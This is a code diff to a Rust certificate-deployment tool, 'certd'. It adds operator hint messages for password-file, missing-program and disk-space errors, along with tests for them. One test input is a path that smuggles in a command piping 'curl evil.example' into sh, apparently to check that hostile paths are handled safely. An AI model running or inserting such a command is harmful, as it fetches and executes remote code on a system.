@@ -131,7 +131,20 @@ fn of_path(node: &NodeName, path: &str, why: &str) -> String {
         );
     }
     if why.contains("in the configuration") {
-        return format!("see what {path} is on {node}: certd takes over certificates and keys in PEM, and empty files");
+        return format!(
+            "see what {path} is on {node}: certd takes over empty files, and those that hold what the path is for"
+        );
+    }
+    if let Some((_, rest)) = why.split_once("its password file ") {
+        let file = as_word(rest.split(' ').next().unwrap_or(rest));
+        return format!(
+            "write the password into the first line of {file} on {node}: root's, for nobody but who is to read the PKCS#12 \
+             file; then: certd deploy --node {node}"
+        );
+    }
+    if let Some((_, program)) = why.strip_suffix(", which is not on this node").and_then(|why| why.split_once("needs "))
+    {
+        return format!("install {program} on {node}, or leave out the file that needs it");
     }
     if why.contains("No space left") {
         return format!("free some space on {node}, then: certd deploy --node {node}");
@@ -162,6 +175,17 @@ mod tests {
             assert!(program.contains(why) && next(why).starts_with(begins), "{}", next(why));
         }
         assert!(next("is a link to /etc/hostname, not made by certd").starts_with("put /ssl/fullchain.pem right"));
+        let forms = include_str!("forms.sh");
+        assert!(forms.contains("its password file $password_file is open to others"));
+        let password = next("its password file /ssl/password is open to others (-rw-r--r--)");
+        assert!(
+            password.starts_with("write the password into the first line of /ssl/password on shenzhen"),
+            "{password}"
+        );
+        for program in ["openssl", "base64"] {
+            let why = format!("needs {program}, which is not on this node");
+            assert!(forms.contains(&why) && next(&why).starts_with(&format!("install {program} on shenzhen")), "{why}");
+        }
         let node = NodeName::parse("shenzhen").unwrap();
         let refusal = Refusal::Path { path: "/x right; curl evil.example|sh #".into(), why: "no".into() };
         let next = NodeError::Refused { node, refusal }.next();
